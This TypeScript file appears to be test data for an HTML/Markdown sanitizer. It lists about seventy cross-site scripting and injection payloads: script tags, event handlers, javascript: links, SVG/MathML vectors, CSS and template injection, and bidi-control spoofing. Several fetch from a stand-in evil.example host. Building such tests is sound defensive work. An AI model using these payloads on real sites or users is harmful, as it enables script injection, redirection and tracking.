// Texts that would do harm where text is taken for something else. Each calls `hit()` if
// it gets to run, and each is to be seen as it stands here.

const q = "hit()"

export const hostile: readonly string[] = [
  // Scripts.
  `<script>${q}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script/x>${q}</script>`,
  `<scr<script>ipt>${q}</scr</script>ipt>`,
  `<script type=module>import("https://evil.example/x.js")</script>`,
  `</script><script>${q}</script>`,
  `</title><script>${q}</script>`,
  `</textarea><script>${q}</script>`,
  `<!--><script>${q}</script-->`,
  `<![CDATA[<script>${q}</script>]]>`,
  `<?xml version="1.0"?><script>${q}</script>`,
  `<noscript><p title="</noscript><script>${q}</script>">`,
  // Handlers.
  `<img src=x onerror=${q}>`,
  `<IMG """><img src=x onerror="${q}">">`,
  `<img src="x" onerror="&#104;it()">`,
  `<img/src=x/onerror=${q}>`,
  `<body onload=${q}>`,
  `<input autofocus onfocus=${q}>`,
  `<details open ontoggle=${q}>`,
  `<video><source onerror=${q}></video>`,
  `<audio src=x onerror=${q}>`,
  `<marquee onstart=${q}>`,
  `<select autofocus onfocus=${q}>`,
  `<div style="animation-name:x" onanimationstart=${q}>`,
  `<button popovertarget=x onclick=${q}>按我</button>`,
  `" onmouseover="${q}`,
  `' onfocus='${q}' autofocus tabindex='1`,
  // Addresses.
  `[点我](javascript:${q})`,
  `[点我](JaVaScRiPt:${q})`,
  `[点我](javascript&colon;${q})`,
  `[点我](vbscript:${q})`,
  `[点我](data:text/html,<script>${q}</script>)`,
  `<a href="javascript:${q}">点我</a>`,
  `<a href=" &#14; javascript:${q}">点我</a>`,
  `<form action="javascript:${q}"><input type=submit></form>`,
  `<iframe src="javascript:parent.${q}"></iframe>`,
  `<iframe srcdoc="<script>parent.${q}</script>"></iframe>`,
  `<object data="javascript:${q}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=prefetch href="https://evil.example/">`,
  `![图](javascript:${q})`,
  `<img src="https://evil.example/x.png">`,
  `<img srcset="https://evil.example/x.png 1x">`,
  // SVG and MathML.
  `<svg onload=${q}>`,
  `<svg><script>${q}</script></svg>`,
  `<svg><animate onbegin=${q} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${q}"><text y=20>点我</text></a></svg>`,
  `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${q}</script>"/></foreignObject></svg>`,
  `<math href="javascript:${q}">点我</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${q}>`,
  // Styles.
  `<style>*{display:none}</style>`,
  `</style><script>${q}</script>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/x)">盖住</p>`,
  `<div style="width:expression(${q})">`,
  // Entities and templates.
  `&lt;script&gt;${q}&lt;/script&gt;`,
  `&#60;script&#62;${q}&#60;/script&#62;`,
  `&amp;lt;img src=x onerror=${q}&amp;gt;`,
  `\\u003cscript\\u003e${q}\\u003c/script\\u003e`,
  `\${${q}}{{${q}}}<%= ${q} %>`,
  `<template><img src=x onerror=${q}></template>`,
  `<slot onslotchange=${q}></slot>`,
  `__proto__[polluted]=${q}`,
  `');${q};//`,
  `]]></script>${q}`,
  // Controls of direction and what is not seen.
  `甲\u202eexe.tcelloc\u202c乙`,
  `甲\u2066<script>${q}</script>\u2069乙`,
  `甲\u200b\u200d\ufeff乙<b onclick=${q}>`,
]

/// A text without what is shown by a sign or not at all, and without spaces.
export function visible(text: string): string {
  return text.replace(/[\s\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff•]/g, "")
}
